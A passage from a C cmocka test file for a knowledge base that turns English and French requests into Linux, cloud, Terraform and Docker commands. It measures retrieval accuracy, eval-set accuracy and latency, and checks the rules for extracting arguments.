        return strcmp(json_string_value(want), "none") == 0 ||
               kb_find(k, json_string_value(want)) != NULL;
    for (size_t i = 0; i < json_array_size(want); i++)
        if (id_known(k, json_array_get(want, i)))
            return 1;
    return 0;
}

/* Self-retrieval: each phrasing of each entry finds it in the top 3 (or an entry with the
 * very same command: a duplicate across files is an equivalent answer). */
static void self_retrieval(const kb *k, double *top1, double *top3)
{
    size_t n = 0, t1 = 0, t3 = 0, shown = 0;
    for (size_t e = 0; e < kb_count(k); e++) {
        const kb_entry *en = kb_entry_at(k, e);
        for (int l = 0; l < 2; l++) {
            const char *const *p;
            size_t np = kb_entry_phrasings(en, l ? "fr" : "en", &p);
            for (size_t j = 0; j < np; j++) {
                kb_hit h[3];
                int nh = kb_search(k, p[j], h, 3), found = 0;
                for (int i = 0; i < nh && !found; i++)
                    found = h[i].entry == en ||
                            strcmp(kb_entry_command(h[i].entry), kb_entry_command(en)) == 0;
                n++;
                t1 += nh > 0 && h[0].entry == en;
                t3 += found;
                if (!found && shown++ < 40)
                    printf("  not in the top 3: %s: \"%s\" -> %s\n", kb_entry_id(en), p[j],
                           nh > 0 ? kb_entry_id(h[0].entry) : "nothing");
            }
        }
    }
    *top1 = n ? (double)t1 / (double)n : 0;
    *top3 = n ? (double)t3 / (double)n : 0;
    printf("  self-retrieval: %zu phrasings, top-1 %.1f%%, top-3 %.1f%%\n", n, 100 * *top1,
           100 * *top3);
}

/* Accuracy on kb_eval.yaml over the cases whose entry exists in k. */
static double eval_accuracy(const kb *k, double *p50)
{
    json_t *doc = NULL;
    static double times[1024];
    size_t nt = 0, total = 0, good = 0;
    if (yaml_load_file(EVAL_FILE, NULL, &doc, err, sizeof err) != 0)
        fail_msg("%s", err);
    json_t *cases = json_object_get(doc, "cases");
    assert_true(json_array_size(cases) >= 120);
    struct kb_answer *a = malloc(sizeof(*a));
    assert_non_null(a);
    for (size_t i = 0; i < json_array_size(cases); i++) {
        json_t *c = json_array_get(cases, i), *want = json_object_get(c, "id");
        json_t *ctxv = json_object_get(c, "context");
        const char *ctx[10];
        size_t nctx = 0;
        if (!id_known(k, want))
            continue;
        for (size_t j = 0; j < json_array_size(ctxv) && nctx < 10; j++)
            ctx[nctx++] = json_string_value(json_array_get(ctxv, j));
        double t0 = now_ms();
        int rc = kb_answer(k, json_string_value(json_object_get(c, "q")), ctx, nctx, NULL, a);
        if (nt < 1024)
            times[nt++] = now_ms() - t0;
        int ok = id_expected(want, rc == 0 ? kb_entry_id(a->entry) : NULL);
        json_t *acts = json_object_get(c, "action");
        for (size_t j = 0; ok && j < json_array_size(acts); j++)
            ok = strstr(a->action, json_string_value(json_array_get(acts, j))) != NULL;
        total++;
        good += ok;
    }
    free(a);
    json_decref(doc);
    qsort(times, nt, sizeof(*times), cmp_double);
    *p50 = nt ? times[nt / 2] : 0;
    printf("  kb_eval: %zu/%zu right (%.1f%%), answer p50 %.3f ms\n", good, total,
           total ? 100.0 * (double)good / (double)total : 0.0, *p50);
    return total ? (double)good / (double)total : 0;
}

static void test_real_knowledge(void **state)
{
    (void)state;
    const char *dir = getenv("CLOUDYA_KNOWLEDGE_DIR");
    if (dir == NULL || dir[0] == '\0')
        dir = SOURCE_ROOT "/knowledge";
    kb *k = NULL;
    double t0 = now_ms();
    int rc = kb_load_dir(dir, &k, err, sizeof err);
    double load = now_ms() - t0;
    if (rc != 0)
        fail_msg("%s does not load: %s", dir, err);
    printf("  %s: %zu entries, loaded in %.1f ms\n", dir, kb_count(k), load);
    assert_true(kb_count(k) >= REAL_MIN_ENTRIES);
    double top1, top3, p50;
    self_retrieval(k, &top1, &top3);
    assert_true(top3 >= REAL_MIN_SELF_TOP3);
    double acc = eval_accuracy(k, &p50);
    assert_true(acc >= REAL_MIN_EVAL);
    kb_free(k);
}

/* Rules of the extractor each checked on its own (the eval's accuracy would hide one
 * regression): a real path beats a plain word after a cue; a word of a several-word synonym
 * in the request ("resource group", "cloud run") is not a name; "who am i" and "can i" are
 * searchable although made of stopwords; "state list" and "state show" are told apart. */
static void test_real_extraction_rules(void **state)
{
    (void)state;
    static const struct {
        const char *q, *id, *in_action, *not_in_action;
    } cases[] = {
        {"show the size of directory /var/lib", "linux.dir-size-du", "/var/lib", "directory"},
        {"combien de lignes dans /etc/passwd", "linux.count-lines", "/etc/passwd", "lignes"},
        {"create a resource group in azure westeurope", "azure.group-create", "westeurope",
         "--name resource "},
        {"deploy to cloud run", "gcp.run-deploy", "gcloud run deploy", "deploy cloud "},
        {"who am i", "linux.whoami", "id", NULL},
        {"list terraform state", "tf.state-list", "terraform state list", NULL},
        {"terraform state show", "tf.state-show", "terraform state show", NULL},
        {"restart the docker container named api", "docker.restart", "docker restart api", NULL},
    };
    const char *dir = getenv("CLOUDYA_KNOWLEDGE_DIR");
    if (dir == NULL || dir[0] == '\0')
        dir = SOURCE_ROOT "/knowledge";
    kb *k = NULL;
    if (kb_load_dir(dir, &k, err, sizeof err) != 0)
        fail_msg("%s does not load: %s", dir, err);
    struct kb_answer *a = calloc(1, sizeof *a);
    assert_non_null(a);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        int rc = kb_answer(k, cases[i].q, NULL, 0, NULL, a);
        if (rc != 0 || strcmp(kb_entry_id(a->entry), cases[i].id) != 0)
            fail_msg("\"%s\": expected %s, got %s", cases[i].q, cases[i].id,
                     rc == 0 ? kb_entry_id(a->entry) : "nothing");
        if (!strstr(a->action, cases[i].in_action) ||
            (cases[i].not_in_action && strstr(a->action, cases[i].not_in_action)))
            fail_msg("\"%s\": action %s", cases[i].q, a->action);
    }
    free(a);
    kb_free(k);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_load_good),       cmocka_unit_test(test_loader_errors),
        cmocka_unit_test(test_synonym_errors),  cmocka_unit_test(test_load_dirs),
        cmocka_unit_test(test_value_types),     cmocka_unit_test(test_search_wordings),
        cmocka_unit_test(test_synonyms),
        cmocka_unit_test(test_domain_steering), cmocka_unit_test(test_nothing_fits),
        cmocka_unit_test(test_answer_text),     cmocka_unit_test(test_detect_lang),
        cmocka_unit_test(test_params_types),    cmocka_unit_test(test_params_injection),
        cmocka_unit_test(test_followups),       cmocka_unit_test(test_threads),
        cmocka_unit_test(test_real_knowledge),  cmocka_unit_test(test_real_extraction_rules),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
